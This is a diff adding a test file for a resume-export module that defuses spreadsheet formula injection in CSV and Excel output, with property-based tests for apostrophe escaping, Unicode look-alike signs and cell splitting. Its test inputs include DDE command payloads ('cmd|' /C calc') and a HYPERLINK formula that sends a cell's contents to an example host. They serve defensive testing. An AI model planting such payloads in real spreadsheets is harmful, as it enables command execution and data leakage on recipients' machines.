@@ -1,0 +1,185 @@
+"""Text in cells: no spreadsheet takes any of it for a formula, and none of it is lost."""
+
+import csv
+import io
+import re
+import unicodedata
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
+from openpyxl.cell import WriteOnlyCell
+
+from each import each
+from resume_visibility.exports import defusing
+from resume_visibility.exports.defusing import MOST_IN_CELL, defused, in_workbook
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\t",
+    " =1",
+    "\u3000＝1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "−1",
+    "\x01=1",
+    "\u200b=1",
+    "\ufeff=1",
+    '"=1',
+    '=HYPERLINK("http://example.com?x="&A1,"me")',
+]
+BEGINS = re.compile(r"[=+\-@\t\r\n]")
+
+
+def seen(text: str) -> str:
+    """A text as a careless reader takes it: folded, without spaces and signs that are not seen, and quotation marks."""
+    shown = [
+        one for one in text if unicodedata.category(one) not in ("Cc", "Cf", "Zs", "Zl", "Zp") and one != '"'
+    ]
+    return unicodedata.normalize("NFKC", "".join(shown)).replace("−", "-")
+
+
+def harmless(cell: str) -> bool:
+    """Whether a cell begins with nothing that a spreadsheet would evaluate."""
+    return not BEGINS.match(cell) and not BEGINS.match(seen(cell))
+
+
+def restored(cell: str) -> str:
+    """The text that was defused: one apostrophe fewer wherever there is one before a formula."""
+    formula = f"[{defusing._UNSEEN}]*[{defusing._FORMULA}]"
+    first = f"^'(?='*(?:[\\t\\n\\r]|[{defusing._UNSEEN}\\t\\n\\r]*[{defusing._FORMULA}]))"
+    return re.sub(f"{first}|(?<=[{defusing._ENDS_CELL}])'(?='*{formula})", "", cell)
+
+
+TEXTS = st.text(
+    st.one_of(st.sampled_from("=+-@＝＋－＠\t\r\n '\",;|_x0041"), st.characters(codec="utf-8")), max_size=30
+)
+
+
+@each("text", FORMULAS)
+def test_EXPORT_1_a_formula_gets_an_apostrophe(text: str) -> None:
+    """Whatever begins as a formula does, behind spaces, controls and in full width too, gets an apostrophe in front."""
+    assert defused(text).startswith("'")
+
+
+@each(
+    "text",
+    [
+        "",
+        "负责清结算",
+        "C++",
+        "a-b",
+        "a=b",
+        "138 0013 8000",
+        "'a",
+        "me@example.com",
+        "1,2",
+        "2018-03 – 2022-08",
+    ],
+)
+def test_EXPORT_1_what_is_no_formula_stays(text: str) -> None:
+    """A text in which nothing begins a formula is written as it is."""
+    assert defused(text) == text
+
+
+def test_EXPORT_1_a_number_stays_readable() -> None:
+    """A telephone number in E.164 is read behind its apostrophe."""
+    assert defused("+8613800138000") == "'+8613800138000"
+
+
+@each("sign", "=+-@＝＋－＠")
+def test_EXPORT_1_no_sign_that_ends_a_cell_lets_a_formula_begin(sign: str) -> None:
+    """Where a reader takes another sign than the comma for the end of a cell, the next one begins no formula either."""
+    for end in "\t\n\r,;|":
+        assert defused(f"a{end} {sign}1") == f"a{end}' {sign}1"
+
+
+@given(TEXTS)
+def test_EXPORT_1_no_text_is_a_formula_in_csv(text: str) -> None:
+    """Any text, read back from CSV, is no formula, in whole or behind any sign that ends a cell, and is not lost."""
+    file = io.StringIO(newline="")
+    csv.writer(file, quoting=csv.QUOTE_ALL).writerow([defused(text)])
+    [[cell]] = csv.reader(io.StringIO(file.getvalue(), newline=""))
+    assert harmless(cell)
+    assert all(not seen(piece) or not BEGINS.match(seen(piece)) for piece in re.split(r"[\t\n\r,;|]", cell))
+    assert restored(cell) == text
+
+
+@each(
+    "text",
+    ["'=1", "''=1", "a;'=1", "a;''=1", "\n'=1", "'\t=1", "\t'\t=1", "' '=1", "a;' =1", "a\n\n'-1", "';'=1"],
+)
+def test_EXPORT_1_an_apostrophe_of_the_writer_stays(text: str) -> None:
+    """Where the writer set an apostrophe before a formula already, it is told from those that were added."""
+    assert restored(defused(text)) == text
+
+
+def test_EXPORT_1_every_sign_is_known() -> None:
+    """Each sign of Unicode that is a formula's in another shape, or is not seen before one, is defused."""
+    for code in (*range(0xD800), *range(0xE000, 0x110000)):
+        one = chr(code)
+        if unicodedata.normalize("NFKC", one)[:1] in ("=", "+", "-", "@"):
+            assert defused(one) == f"'{one}", hex(code)
+        elif unicodedata.category(one) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
+            assert defused(f"{one}=").startswith("'"), hex(code)
+
+
+def unspelled(text: str) -> str:
+    """What Excel shows of a text in a workbook."""
+    return re.sub("_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), text)
+
+
+def read_back(text: str) -> tuple[object, str]:
+    """A text as a workbook holds it, and of which kind its cell is."""
+    book, file = Workbook(write_only=True), io.BytesIO()
+    sheet = book.create_sheet("A")
+    [piece] = in_workbook(text)
+    cell = WriteOnlyCell(sheet, value=piece)
+    cell.data_type = "s"
+    sheet.append([cell])
+    book.save(file)
+    read = load_workbook(file)["A"]["A1"]
+    return read.value, str(read.data_type)
+
+
+@given(TEXTS.filter(bool))
+def test_EXPORT_1_no_text_is_a_formula_in_a_workbook(text: str) -> None:
+    """Any text, read back from a workbook, is text, and is not lost."""
+    value, kind = read_back(text)
+    assert kind != "f"
+    assert isinstance(value, str)
+    assert unspelled(value) == text
+
+
+@pytest.mark.parametrize(
+    "text", ["\x00", "\x0b", "\x1f", "\r\n", "\ufffe", "\ud800", "_x0041_", "_x000D__x000a_", "__x0000_"]
+)
+def test_signs_that_xml_cannot_hold_are_spelled(text: str) -> None:
+    """What XML cannot hold is spelled as Excel spells it, and what looks so spelled is what Excel shows."""
+    [spelled] = in_workbook(text)
+    assert not re.search("[\x00-\x08\x0b-\x1f\ud800-\udfff\ufffe\uffff]", spelled)
+    assert unspelled(spelled) == text
+
+
+@given(st.lists(st.tuples(TEXTS, st.integers(1, 20_000)), max_size=3))
+def test_a_long_text_takes_several_cells(parts: list[tuple[str, int]]) -> None:
+    """No piece is longer than a cell, in the counting of Excel, and together they are the text."""
+    text = "".join((part * times)[:60_000] for part, times in parts)
+    pieces = [*in_workbook(text)]
+    assert all(len(piece.encode("utf-16-le")) // 2 <= MOST_IN_CELL for piece in pieces)
+    assert "".join(map(unspelled, pieces)) == text
+    assert "" not in pieces[1:]
+
+
+def test_a_usual_text_takes_one_cell() -> None:
+    """The longest text that a resume holds stays in one cell."""
+    assert [*in_workbook("负" * 20_000)] == ["负" * 20_000]
